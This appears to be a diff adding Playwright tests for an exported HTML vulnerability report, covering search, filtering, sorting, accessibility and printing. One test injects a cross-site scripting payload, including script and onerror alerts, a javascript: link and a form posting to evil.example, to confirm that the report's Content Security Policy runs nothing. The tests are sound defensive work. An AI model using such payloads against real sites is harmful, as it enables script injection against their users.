@@ -1,0 +1,116 @@
+import { writeFile } from 'node:fs/promises';
+import { pathToFileURL } from 'node:url';
+import type { Page } from '@playwright/test';
+import { auth, exportJobs, openEnvelope } from '@faultline/shared/contract';
+import { findings } from '../support/findings.ts';
+import { verifiedPerson } from '../support/person.ts';
+import { expect, test } from '../support/test.ts';
+
+// The real provider makes it, from records of which some try to run something.
+let report: string;
+test.beforeAll(async ({ request }) => {
+  const person = await verifiedPerson(request);
+  const answer = await request.post(`/api${auth.login.path}`, { data: person });
+  const { token } = auth.login.read(openEnvelope(await answer.json()).data);
+  const headers = { authorization: `Bearer ${token}` };
+  const asked = await request.post('/api/export', { headers, data: { search_query: {}, type: 'html' } });
+  const { job_id } = exportJobs.create.read(openEnvelope(await asked.json()).data);
+  await expect
+    .poll(async () => (await (await request.get(`/api/export/status/${job_id}`, { headers })).json()).data.status, {
+      timeout: 30_000,
+    })
+    .toBe('completed');
+  report = await (await request.get(`/api/export/download/${job_id}`, { headers })).text();
+});
+
+/** Opens a page from the disk, without a server; gives what it asked for and what it ran. */
+async function openFromDisk(page: Page, html: string, file: string) {
+  const misdeeds: string[] = [];
+  const address = pathToFileURL(file).href;
+  await writeFile(file, html);
+  page.on('dialog', (dialog) => {
+    misdeeds.push(dialog.message());
+    void dialog.dismiss();
+  });
+  page.on('request', (request) => request.url() !== address && misdeeds.push(request.url()));
+  await page.goto(address);
+  return misdeeds;
+}
+
+const rows = (page: Page) => page.locator('tbody tr');
+const column = (page: Page, place: number) => rows(page).locator(`td:nth-child(${place})`).allTextContents();
+
+test('the report opens from the disk, asks for nothing, searches, narrows and sorts', async ({ page }, testInfo) => {
+  const misdeeds = await openFromDisk(page, report, testInfo.outputPath('report.html'));
+  await expect(page.getByRole('heading', { level: 1, name: /^Vulnerabilities \d{4}/ })).toBeVisible();
+  await expect(page.getByText('No filters')).toBeVisible();
+  const total = await rows(page).count();
+  expect(total).toBeGreaterThan(50);
+  const all = `Showing all ${total.toLocaleString('en-US')}`;
+  await expect(page.getByText(all)).toBeVisible();
+  const hostile = rows(page).filter({ hasText: /<(script|img)/ });
+  expect(await hostile.count()).toBeGreaterThan(0);
+  await expect(page.locator('img, iframe')).toHaveCount(0);
+
+  const search = page.getByRole('searchbox', { name: 'Search this report' });
+  const first = (await column(page, 1))[0] ?? '';
+  await search.fill(first.toLowerCase());
+  await expect(page.getByText(`Showing 1 of ${total.toLocaleString('en-US')}`)).toBeVisible();
+  await search.fill('no such words');
+  await expect(page.getByText('No vulnerabilities found')).toBeVisible();
+  await search.fill('');
+  await expect(page.getByText(all)).toBeVisible();
+
+  await page.getByRole('combobox', { name: 'Severity' }).selectOption('Critical');
+  expect(new Set(await column(page, 3))).toEqual(new Set(['Critical']));
+  const critical = await page.getByRole('listitem').filter({ hasText: 'Critical' }).locator('b').textContent();
+  expect((await rows(page).count()).toLocaleString('en-US')).toBe(critical);
+  await page.getByRole('combobox', { name: 'Severity' }).selectOption('');
+
+  await page.getByRole('button', { name: 'Score' }).click();
+  const scores = (await column(page, 4)).map((score) => (score === 'N/A' ? -1 : Number(score)));
+  expect(scores).toEqual(scores.toSorted((a, b) => a - b));
+  await page.getByRole('button', { name: 'Severity' }).click();
+  await page.getByRole('button', { name: 'Severity' }).click();
+  expect((await column(page, 3))[0]).toBe('Critical');
+  await expect(page.getByRole('columnheader', { name: 'Severity' })).toHaveAttribute('aria-sort', 'descending');
+  expect(misdeeds).toEqual([]);
+});
+
+test('even where escaping failed, its policy runs nothing', async ({ page, noise }, testInfo) => {
+  noise.expect(/Content Security Policy|Content-Security-Policy|TrustedScript|TrustedHTML/);
+  const attack = `<script>alert(1)</script><img src="x" onerror="alert(2)"><a id="bait" href="javascript:alert(3)">bait</a>
+    <iframe srcdoc="<script>alert(4)</script>"></iframe><form action="https://evil.example"><button id="send">Send</button></form>`;
+  const misdeeds = await openFromDisk(
+    page,
+    report.replace('</main>', `${attack}</main>`),
+    testInfo.outputPath('bad.html'),
+  );
+  await page.locator('#bait').click();
+  await page.locator('#send').click();
+  await expect(page).toHaveURL(/bad\.html$/);
+  await expect(page.getByText(/^Showing all/)).toBeVisible();
+  expect(misdeeds.filter((deed) => !deed.startsWith('about:'))).toEqual([]);
+});
+
+test('axe finds nothing in the report, light and dark, narrow and wide, and it prints', async ({ page }, testInfo) => {
+  test.setTimeout(120_000);
+  // Enough rows to look at; axe reads every cell.
+  const lines = report.split('\n');
+  const kept = lines.filter((line, index) => !line.startsWith('<tr data-severity') || index % 20 === 0).join('\n');
+  await openFromDisk(page, kept, testInfo.outputPath('short.html'));
+  for (const colorScheme of ['light', 'dark'] as const) {
+    for (const width of [390, 1280]) {
+      await test.step(`${colorScheme}, ${width}`, async () => {
+        await page.emulateMedia({ colorScheme });
+        await page.setViewportSize({ width, height: 860 });
+        expect(await findings(page)).toEqual([]);
+        expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0);
+      });
+    }
+  }
+  await page.emulateMedia({ media: 'print' });
+  await expect(page.locator('#controls')).toBeHidden();
+  expect((await page.pdf({ format: 'A4' })).byteLength).toBeGreaterThan(5000);
+  await expect(page.locator('thead')).toHaveCSS('display', 'table-header-group');
+});
